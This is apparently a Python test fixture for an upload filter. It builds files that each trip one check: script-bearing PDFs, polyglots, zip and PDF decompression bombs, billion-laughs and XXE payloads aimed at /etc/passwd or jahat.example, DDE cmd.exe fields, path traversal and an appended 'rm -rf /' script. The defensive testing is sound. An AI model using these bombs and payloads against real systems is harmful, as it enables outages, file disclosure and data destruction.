"""Files that must not get in, made on the spot; each with the one reason that refuses it.

Content that is dear to make is a function. Every check of units/contents has a file here that only this check refuses:
tests/units/test_upload_checks.py takes each check away and looks whether a file gets in.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from functools import cached_property
from typing import Any

import openpyxl
import pikepdf
from pikepdf import Dictionary, Name, Stream, String

from tests.units import upload_files as made

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PDF = made.pdf_bytes()
ZIP = made.zipped({"a.txt": "isi"})


@dataclass
class Hostile:
    """`content` as bytes or as the function that makes them; `policy` are limits that differ from the settings."""

    content: bytes | Callable[[], bytes]
    reason: str
    policy: Mapping[str, Any] = field(default_factory=dict)

    @cached_property
    def bytes(self) -> bytes:
        return self.content() if callable(self.content) else self.content


# ---- PDF ----


def with_object(value: Dictionary | Stream) -> bytes:
    """A PDF that holds the object without using it, in a compressed object stream where it can be."""
    pdf = made.empty_pdf()
    pdf.Root.PieceInfo = Dictionary(Private=pdf.make_indirect(value))
    return made.packed(pdf)


def with_link(address: str) -> bytes:
    return with_object(Dictionary(S=Name.URI, URI=String(address)))


def with_stream_from_elsewhere() -> bytes:
    pdf = made.empty_pdf()
    stream = Stream(pdf, b"")
    stream.stream_dict["/F"] = String("\\\\jahat.example\\bagi")
    pdf.Root.PieceInfo = Dictionary(Private=pdf.make_indirect(stream))
    return made.pdf_bytes(pdf)


def pdf_bomb() -> bytes:
    """An object stream of 200 MB of blanks behind 200 KB."""
    packed = made.packed(made.pdf_with_form())
    start = packed.index(b"stream", packed.index(b"/ObjStm")) + len(b"stream\n")
    squeeze = zlib.compressobj(1)
    blanks = b"".join(squeeze.compress(b" " * 1_000_000) for _ in range(200)) + squeeze.flush()
    return packed[:start] + blanks + packed[packed.index(b"endstream", start) :]


def ending_zip_as_pdf() -> bytes:
    """A zip behind the PDF whose comment looks like the end of a PDF."""
    out = io.BytesIO(PDF)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("jahat.exe", "MZ")
        archive.comment = b"\n%%EOF\n"
    return out.getvalue()


# ---- images ----


def png_of(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG that claims a size and holds no pixel."""
    header = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", header), *chunks, (b"IDAT", b""), (b"IEND", b"")]
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + body


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose header claims a size; the pixels are those of a small one."""
    content = made.image_bytes("JPEG")
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">2H", height, width) + content[at + 4 :]


def commented_jpeg(comment: bytes) -> bytes:
    return made.image_bytes("JPEG", comment=comment)


def broken_pixels_png() -> bytes:
    """All checksums are right, the pixels end too early."""
    whole = made.image_bytes("PNG", (400, 400))
    pixels = zlib.compress(bytes(1000))
    at = whole.index(b"IDAT") - 4
    chunk = struct.pack(">I", len(pixels)) + b"IDAT" + pixels + struct.pack(">I", zlib.crc32(b"IDAT" + pixels))
    return whole[:at] + chunk + whole[whole.index(b"IEND") - 4 :]


def wrong_checksum_png() -> bytes:
    whole = made.image_bytes("PNG")
    at = whole.index(b"IDAT") - 12
    return whole[:at] + struct.pack(">I", 3) + b"tEXt" + b"a\0b" + b"\0\0\0\0" + whole[at + 8 :]


# ---- Office ----


def workbook_bytes() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "Nilai"
    book.active["A1"].hyperlink = "https://contoh.go.id"
    book.save(out)
    return out.getvalue()


def docx(**parts: Any) -> bytes:
    return made.zipped(made.docx_parts(**parts))


def docx_and(extra: Mapping[str, str | bytes]) -> bytes:
    return made.zipped(made.docx_parts() | dict(extra))


def xlsx_and(extra: Mapping[str, str | bytes]) -> bytes:
    return made.zipped(made.xlsx_parts() | dict(extra))


def docx_without(name: str) -> bytes:
    return made.zipped({key: value for key, value in made.docx_parts().items() if key != name})


def tampered_zip(content: bytes, name: str, offset: int, value: bytes) -> bytes:
    """Overwrites bytes of a member's record in the central directory."""
    at = content.rindex(b"PK\x01\x02", 0, content.rindex(name.encode()))
    return content[: at + offset] + value + content[at + offset + len(value) :]


def with_end(content: bytes, **changed: int) -> bytes:
    """Another end record: disk, directory_disk, count, length, offset."""
    names = ("disk", "directory_disk", "on_disk", "count", "length", "offset", "comment")
    values = dict(zip(names, struct.unpack("<4H2LH", content[-18:]), strict=True)) | changed
    return content[:-18] + struct.pack("<4H2LH", *values.values())


def with_comment_like_an_end() -> bytes:
    """The last bytes add up like an end record but are none; the true one stands before them."""
    plain = docx()
    length = struct.unpack("<L", plain[-10:-6])[0]
    comment = b"akhir"[:4] + struct.pack("<4H2LH", 0, 0, 0, 0, length, len(plain) - length, 0)
    return with_end(plain, comment=len(comment)) + comment


def after_a_script() -> bytes:
    """A whole document behind a script, with every offset put right."""
    out = io.BytesIO(b"PK\x03\x04<?php system(1); ?>")
    with zipfile.ZipFile(out, "a") as archive:
        for name, content in made.docx_parts().items():
            archive.writestr(name, content)
    return out.getvalue()


def flat_bomb() -> bytes:
    return docx_and({"word/media/a.png": bytes(20_000_000)})


def swelling_bomb() -> bytes:
    """Each member alone is within the limit, and the directory does not lie: together they are too much."""
    return docx_and({f"word/media/{i}.bin": bytes(150_000) for i in range(10)})


def lying_bomb() -> bytes:
    """The directory and the local header say 5 bytes; 300 KB come out."""
    whole = docx_and({"word/document.xml": b"<a>" + b" " * 300_000 + b"</a>"})
    return tampered_zip(whole, "word/document.xml", 24, b"\x05\x00\x00\x00")


def overlapped_bomb() -> bytes:
    """David Fifield's bomb: each member quotes the header of the next one and goes on with its content.

    Ten names share one kernel; every header, size and checksum is right.
    """
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = bytes(100_000)
    packed = squeeze.compress(content) + squeeze.flush()
    members, header = [], b""
    for number in range(9, -1, -1):
        if header:
            packed = b"\0" + struct.pack("<2H", len(header), len(header) ^ 0xFFFF) + header + packed
            content = header + content
        name = f"word/media/{number}.bin".encode()
        sizes = struct.pack("<3L2H", zlib.crc32(content), len(packed), len(content), len(name), 0)
        header = struct.pack("<4s5H", b"PK\x03\x04", 20, 0, 8, 0, 33) + sizes + name
        members.append((name, sizes, len(header) + len(packed)))
    plain = docx()
    end = plain[-22:]
    count, length, offset = struct.unpack("<H2L", end[10:20])
    stream = header + packed
    entries = b"".join(
        struct.pack("<4s6H", b"PK\x01\x02", 20, 20, 0, 8, 0, 33)
        + sizes
        + struct.pack("<3H2L", 0, 0, 0, 0, offset + len(stream) - back)
        + name
        for name, sizes, back in members
    )
    directory = plain[offset : offset + length] + entries
    whole = plain[:offset] + stream + directory + end
    return with_end(whole, on_disk=count + 10, count=count + 10, length=len(directory), offset=offset + len(stream))


def crowded_zip() -> bytes:
    return docx_and({f"word/media/{i}.png": b"" for i in range(2_100)})


def crowded_directory() -> bytes:
    """The end record says one member; the directory holds thousands."""
    many = docx_and({f"word/media/{i:0200d}.png": b"" for i in range(300)})
    return with_end(many, on_disk=1, count=1)


def more_members_than_said() -> bytes:
    return with_end(docx_and({f"word/media/{i}.png": b"x" for i in range(10)}), on_disk=1, count=1)


def with_types(*types: str) -> bytes:
    return made.zipped(made.docx_parts() | {"[Content_Types].xml": made.content_types(made.WORD, *types)})


def with_xml(text: str | bytes) -> bytes:
    return docx_and({"word/a.xml": text})


def quadratic() -> str:
    return f'<!DOCTYPE a [<!ENTITY b "{"x" * 50_000}">]><a>{"&b;" * 5_000}</a>'


def laughs() -> str:
    layers = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!DOCTYPE a [<!ENTITY l0 "ha">{layers}]><a>&l9;</a>'


HOSTILE_FILES: dict[str, Hostile] = {
    "kosong.pdf": Hostile(b"", "empty"),
    "halaman.pdf": Hostile(b"<html><script>alert(1)</script></html>", "content"),
    "gambar.pdf": Hostile(made.image_bytes("PNG"), "content"),
    "dahului.pdf": Hostile(b"GIF89a/*" + PDF, "content"),
    "gif.jpg": Hostile(b"GIF89a/*\xff\xd8\xff*/=1;alert(1)", "content"),
    "tiff.jpg": Hostile(made.image_bytes("TIFF"), "content"),
    "tertukar.png": Hostile(made.image_bytes("JPEG"), "content"),
    "eps.png": Hostile(b"%!PS-Adobe-3.0 EPSF-3.0", "content"),
    "kepala saja.png": Hostile(b"\x89PNG\r\n\x1a\n<?php system(1); ?>", "broken"),
    "terpotong.jpg": Hostile(made.image_bytes("JPEG", (400, 400))[:2000], "broken"),
    "terpotong.png": Hostile(made.image_bytes("PNG", (400, 400))[:-20], "broken"),
    "kepala saja.jpg": Hostile(b"\xff\xd8\xff\xe0<?php system(1); ?>", "broken"),
    "terpotong.pdf": Hostile(made.pdf_bytes(made.empty_pdf(5))[:300], "broken"),
    "kepala saja.pdf": Hostile(b"%PDF-1.7\n<script>alert(1)</script>", "broken"),
    "tanpa halaman.pdf": Hostile(made.pdf_bytes(pikepdf.new()), "broken"),
    "lama.docx": Hostile(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    "sandi.xlsx": Hostile(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"), "password"
    ),
    "sandi.pdf": Hostile(made.encrypted_pdf(), "password"),
    "dibatasi.pdf": Hostile(made.encrypted_pdf(user=""), "password"),
    "skrip.pdf": Hostile(made.pdf_bytes(made.pdf_with_script()), "pdf_active"),
    "skrip padat.pdf": Hostile(made.packed(made.pdf_with_script()), "pdf_active"),
    "skrip tersamar.pdf": Hostile(made.escaped_script_pdf(), "pdf_active"),
    "skrip dalam.pdf": Hostile(made.packed(made.pdf_with_nested_script()), "pdf_active"),
    "perintah.pdf": Hostile(made.packed(made.pdf_with_launch()), "pdf_active"),
    "media.pdf": Hostile(made.packed(made.pdf_with_rich_media()), "pdf_active"),
    "xfa.pdf": Hostile(made.packed(made.pdf_with_xfa()), "pdf_active"),
    "lampiran.pdf": Hostile(made.packed(made.pdf_with_attachment()), "pdf_attachment"),
    "lampiran lepas.pdf": Hostile(made.packed(made.pdf_with_stray_attachment()), "pdf_attachment"),
    "arsip.docx": Hostile(made.zipped({"a.txt": "isi"}), "broken"),
    "tertukar.docx": Hostile(made.zipped(made.xlsx_parts()), "office_wrong_kind"),
    "tertukar.xlsx": Hostile(docx(), "office_wrong_kind"),
    "makro.docx": Hostile(docx_and({"word/vbaProject.bin": b"x"}), "office_macro"),
    "jenis makro.docx": Hostile(
        made.zipped(
            made.docx_parts()
            | {
                "[Content_Types].xml": made.content_types(
                    made.WORD, "application/vnd.ms-word.document.macroEnabled.main+xml"
                )
            }
        ),
        "office_macro",
    ),
    "makro4.xlsx": Hostile(made.zipped(made.xlsx_parts() | {"xl/macrosheets/sheet1.xml": "<a/>"}), "office_macro"),
    "ole.docx": Hostile(docx_and({"word/embeddings/oleObject1.bin": b"x"}), "office_active"),
    "program.docx": Hostile(docx_and({"word/embeddings/setup.exe": b"MZ"}), "office_active"),
    "activex.docx": Hostile(docx_and({"word/activeX/activeX1.xml": "<a/>"}), "office_active"),
    "arsip di dalam.docx": Hostile(docx_and({"word/media/a.zip": b"PK"}), "office_active"),
    "makro di dalam.docx": Hostile(
        docx_and({"word/embeddings/a.xlsx": made.zipped(made.xlsx_parts() | {"xl/vbaProject.bin": b"x"})}),
        "office_macro",
    ),
    "tautan luar.xlsx": Hostile(
        made.zipped(made.xlsx_parts() | {"xl/externalLinks/externalLink1.xml": "<a/>"}), "office_link"
    ),
    "templat luar.docx": Hostile(
        docx(links=made.relations(("attachedTemplate", "http://jahat.example/t.dotm", True))), "office_link"
    ),
    "ole luar.docx": Hostile(
        docx(links=made.relations(("oleObject", "http://jahat.example/o", True))), "office_active"
    ),
    "gambar luar.docx": Hostile(
        docx(links=made.relations(("image", "http://jahat.example/p.png", True))), "office_link"
    ),
    "dde.docx": Hostile(docx(body="<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"), "office_link"),
    "dde terpisah.docx": Hostile(
        docx(body="<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd</w:instrText></w:r>"), "office_link"
    ),
    "dde sederhana.docx": Hostile(docx(body='<w:fldSimple w:instr="DDE cmd"/>'), "office_link"),
    "xxe.docx": Hostile(
        docx_and({"word/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}), "broken"
    ),
    "dtd utf16.docx": Hostile(
        docx_and({"word/a.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a []><a/>'.encode("utf-16")}),
        "broken",
    ),
    "tawa.docx": Hostile(
        docx_and(
            {"word/a.xml": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>'},
        ),
        "broken",
    ),
    "xml rusak.docx": Hostile(docx_and({"word/a.xml": "<a>"}), "broken"),
    "menyusup.docx": Hostile(docx_and({"word/../../a.xml": "<a/>"}), "broken"),
    "mutlak.docx": Hostile(docx_and({"/etc/a.xml": "<a/>"}), "broken"),
    "kembar.docx": Hostile(docx_and({"Word/Document.xml": "<a/>"}), "broken"),
    "terpotong.docx": Hostile(docx()[:-10], "broken"),
    "berekor.docx": Hostile(docx() + b"<?php ?>", "broken"),
    "berkepala.docx": Hostile(b"PK\x03\x04" + docx(), "broken"),
    "zip64.docx": Hostile(docx()[:-14] + struct.pack("<2H2LH", 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0), "broken"),
    "terenkripsi.docx": Hostile(tampered_zip(docx(), "word/document.xml", 8, b"\x01\x00"), "password"),
    "pranala simbolis.docx": Hostile(tampered_zip(docx(), "word/document.xml", 38, b"\x00\x00\xff\xa1"), "broken"),
    "cara lain.docx": Hostile(tampered_zip(docx(), "word/document.xml", 10, b"\x0c\x00"), "broken"),
    "tumpang tindih.docx": Hostile(tampered_zip(docx(), "word/document.xml", 42, b"\x00\x00\x00\x00"), "broken"),
    "ukuran bohong.docx": Hostile(tampered_zip(docx(), "word/document.xml", 24, b"\x05\x00\x00\x00"), "broken"),
    "program windows.docx": Hostile(docx_and({"word/media/image1.png": b"MZ\x90\x00"}), "office_active"),
    "program linux.docx": Hostile(docx_and({"word/media/a.bin": b"\x7fELF\x02"}), "office_active"),
    "makro menyamar.docx": Hostile(docx_and({"word/gambar.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "office_active"),
    # two things at once
    "gambar sekaligus halaman.png": Hostile(
        made.image_bytes("PNG") + b"<HTML><script>alert(1)</script>", "hidden_file"
    ),
    "gambar sekaligus arsip.png": Hostile(made.image_bytes("PNG") + ZIP, "hidden_file"),
    "gambar sekaligus arsip.jpg": Hostile(made.image_bytes("JPEG") + ZIP, "hidden_file"),
    "pdf sekaligus arsip.pdf": Hostile(PDF + ZIP, "hidden_file"),
    "pdf sekaligus arsip tersamar.pdf": Hostile(ending_zip_as_pdf, "hidden_file"),
    "pdf sekaligus halaman.pdf": Hostile(PDF + b"<html><script>alert(1)</script>", "hidden_file"),
    "pdf sekaligus program.pdf": Hostile(PDF + b"MZ\x90\0" + bytes(60), "hidden_file"),
    "pdf sekaligus skrip.pdf": Hostile(PDF + b"\n#!/bin/sh\nrm -rf /\n", "hidden_file"),
    "didahului halaman.pdf": Hostile(b"<html>" + PDF, "content"),
    "didahului baris kosong.pdf": Hostile(b"\n" + PDF, "content"),
    "zip.pdf": Hostile(ZIP, "content"),
    "zip.png": Hostile(ZIP, "content"),
    "webp.png": Hostile(lambda: made.image_bytes("WEBP"), "content"),
    "gif.png": Hostile(lambda: made.image_bytes("GIF"), "content"),
    "bmp.jpg": Hostile(lambda: made.image_bytes("BMP"), "content"),
    "rtf.docx": Hostile(b"{\\rtf1 \\object}", "content"),
    "program.xlsx": Hostile(b"MZ\x90\0" + bytes(60), "content"),
    "odt.docx": Hostile(made.zipped({"mimetype": "application/vnd.oasis.opendocument.text"}), "broken"),
    # images
    "bom.png": Hostile(lambda: png_of(20_000, 20_000), "too_many_pixels"),
    "bom 169 MP.png": Hostile(lambda: png_of(13_000, 13_000), "too_many_pixels"),
    "bom.jpg": Hostile(lambda: jpeg_of(30_000, 30_000), "too_many_pixels"),
    "bom teks.png": Hostile(lambda: png_of(10, 10, (b"zTXt", b"a\0\0" + zlib.compress(bytes(4_000_000)))), "broken"),
    "bom profil.png": Hostile(lambda: png_of(10, 10, (b"iCCP", b"a\0\0" + zlib.compress(bytes(4_000_000)))), "broken"),
    "terlalu besar sedikit.png": Hostile(made.image_bytes("PNG", (20, 21)), "too_many_pixels", {"max_pixels": 400}),
    "piksel terpotong.png": Hostile(broken_pixels_png, "broken"),
    "jumlah salah.png": Hostile(wrong_checksum_png, "broken"),
    # PDF
    "tautan skrip.pdf": Hostile(with_link("javascript:app.alert(1)"), "pdf_active"),
    "tautan skrip terbelah.pdf": Hostile(with_link("  JaVa\tScRiPt:alert(1)"), "pdf_active"),
    "tautan vbscript.pdf": Hostile(with_link("vbscript:msgbox"), "pdf_active"),
    "tautan data.pdf": Hostile(with_link("data:text/html,<script>alert(1)</script>"), "pdf_active"),
    "aliran dari luar.pdf": Hostile(with_stream_from_elsewhere, "pdf_active"),
    "lampiran berkas saja.pdf": Hostile(with_object(Dictionary(Type=Name.Filespec, EF=Dictionary())), "pdf_attachment"),
    "catatan berlampiran.pdf": Hostile(with_object(Dictionary(Subtype=Name.FileAttachment)), "pdf_attachment"),
    "bom.pdf": Hostile(pdf_bomb, "broken"),
    "terlalu panjang.pdf": Hostile(made.pdf_bytes(made.empty_pdf(4)), "too_many_pages", {"max_pages": 3}),
    "terlalu besar.pdf": Hostile(PDF, "too_large", {"max_file_bytes": 400}),
    # Office
    "bom.docx": Hostile(flat_bomb, "office_too_big"),
    "bom banyak anggota.docx": Hostile(
        swelling_bomb, "office_too_big", {"max_unpacked_bytes": 1_000_000, "max_ratio": 100_000}
    ),
    "bom bohong.docx": Hostile(lying_bomb, "broken"),
    "bom bertindih.docx": Hostile(overlapped_bomb, "broken", {"max_ratio": 100_000}),
    "bom ribuan anggota.docx": Hostile(crowded_zip, "office_too_big"),
    "direktori bohong.docx": Hostile(crowded_directory, "office_too_big", {"max_members": 100}),
    "jumlah bohong.docx": Hostile(more_members_than_said, "office_too_big", {"max_members": 12}),
    "disk lain.docx": Hostile(with_end(docx(), disk=1), "broken"),
    "direktori di disk lain.docx": Hostile(with_end(docx(), directory_disk=1), "broken"),
    "akhir palsu.docx": Hostile(with_comment_like_an_end, "broken"),
    "di belakang skrip.docx": Hostile(after_a_script, "broken"),
    "bzip2.docx": Hostile(made.zipped(made.docx_parts(), zipfile.ZIP_BZIP2), "broken"),
    "lzma.docx": Hostile(made.zipped(made.docx_parts(), zipfile.ZIP_LZMA), "broken"),
    "letak direktori bohong.docx": Hostile(with_end(docx(), offset=2), "broken"),
    "direktori memuat anggota.docx": Hostile(tampered_zip(docx(), "word/document.xml", 20, b"\xff\x0f\0\0"), "broken"),
    "tanpa jenis.docx": Hostile(docx_without("[Content_Types].xml"), "broken"),
    "tanpa hubungan.docx": Hostile(docx_without("_rels/.rels"), "broken"),
    "kutip mundur.docx": Hostile(docx_and({"word\\a.xml": "<a/>"}), "broken"),
    "huruf kandar.docx": Hostile(docx_and({"C:a.xml": "<a/>"}), "broken"),
    "titik.docx": Hostile(docx_and({"word/./a.xml": "<a/>"}), "broken"),
    "data vba.docx": Hostile(docx_and({"word/vbaData.xml": "<a/>"}), "office_macro"),
    "dialog.xlsx": Hostile(xlsx_and({"xl/dialogsheets/sheet1.xml": "<a/>"}), "office_macro"),
    "ole di dalam.docx": Hostile(docx(links=made.relations(("oleObject", "media/a.png", False))), "office_active"),
    "potongan asing.docx": Hostile(docx(links=made.relations(("aFChunk", "a.html", False))), "office_active"),
    "koneksi.xlsx": Hostile(xlsx_and({"xl/connections.xml": "<a/>"}), "office_link"),
    "kueri.xlsx": Hostile(xlsx_and({"xl/queryTables/queryTable1.xml": "<a/>"}), "office_link"),
    "ekstensi web.docx": Hostile(docx_and({"word/webextensions/webextension1.xml": "<a/>"}), "office_link"),
    "bingkai luar.docx": Hostile(docx(links=made.relations(("frame", "http://jahat.example/", True))), "office_link"),
    "subdokumen luar.docx": Hostile(docx(links=made.relations(("subDocument", "file://jahat/a", True))), "office_link"),
    "arsip tersamar.docx": Hostile(docx_and({"word/media/a.png": ZIP}), "office_active"),
    "rar tersamar.docx": Hostile(docx_and({"word/media/a.png": b"Rar!\x1a\x07\x01\0"}), "office_active"),
    "7z tersamar.docx": Hostile(docx_and({"word/media/a.png": b"7z\xbc\xaf\x27\x1c\0\x04"}), "office_active"),
    "buku di dalam buku.docx": Hostile(
        lambda: docx_and({"word/embeddings/a.xlsx": xlsx_and({"xl/embeddings/b.xlsx": workbook_bytes()})}),
        "office_active",
    ),
    "xxe http.docx": Hostile(with_xml('<!DOCTYPE a SYSTEM "http://jahat.example/a.dtd"><a/>'), "broken"),
    "xxe parameter.docx": Hostile(
        with_xml('<!DOCTYPE a [<!ENTITY % b SYSTEM "http://jahat.example/b">%b;]><a/>'), "broken"
    ),
    "tawa miliaran.docx": Hostile(lambda: with_xml(laughs()), "broken"),
    "kuadrat.docx": Hostile(lambda: with_xml(quadratic()), "broken"),
    "dtd di jenis.docx": Hostile(
        docx_and({"[Content_Types].xml": "<!DOCTYPE a []>" + made.content_types(made.WORD)[21:]}), "broken"
    ),
    "dtd di hubungan.docx": Hostile(docx(links="<!DOCTYPE a []>" + made.relations()[21:]), "broken"),
    "dtd di gambar.docx": Hostile(docx_and({"word/drawings/a.vml": "<!DOCTYPE a []><a/>"}), "broken"),
    "dtd.xlsx": Hostile(xlsx_and({"xl/sharedStrings.xml": "<!DOCTYPE a []><a/>"}), "broken"),
    "xml terpotong.docx": Hostile(with_xml("<a><b></b>"), "broken"),
    "penyandian asing.docx": Hostile(with_xml(b'<?xml version="1.0" encoding="utf-7"?><a/>'), "broken"),
}

# One file for each word of the lists that units/contents knows.
for key in ("JS", "JavaScript", "XFA", "RichMediaContent", "RichMediaSettings"):
    HOSTILE_FILES[f"kunci {key}.pdf"] = Hostile(with_object(Dictionary({f"/{key}": 1})), "pdf_active")
for action in (
    *("GoToE", "GoToR", "ImportData", "JavaScript", "Launch"),
    *("Movie", "Rendition", "RichMediaExecute", "Sound", "SubmitForm"),
):
    HOSTILE_FILES[f"aksi {action}.pdf"] = Hostile(with_object(Dictionary(S=Name(f"/{action}"))), "pdf_active")
for subtype in ("3D", "Movie", "RichMedia", "Screen", "Sound"):
    HOSTILE_FILES[f"jenis {subtype}.pdf"] = Hostile(with_object(Dictionary(Subtype=Name(f"/{subtype}"))), "pdf_active")
for number, writing in enumerate(
    (
        b"<?PHP system(1)",
        b"<script>a()</script>",
        b"<HTML>",
        b"<!DOCTYPE html>",
        b"<iframe src=x>",
        b"<svg onload=a()>",
        PDF,
    )
):
    HOSTILE_FILES[f"komentar {number}.jpg"] = Hostile(commented_jpeg(writing), "hidden_file")
for number, head in enumerate((b"Rar!\x1a\x07\0", b"7z\xbc\xaf\x27\x1c")):
    HOSTILE_FILES[f"arsip {number}.jpg"] = Hostile(made.image_bytes("JPEG") + head + bytes(30), "hidden_file")
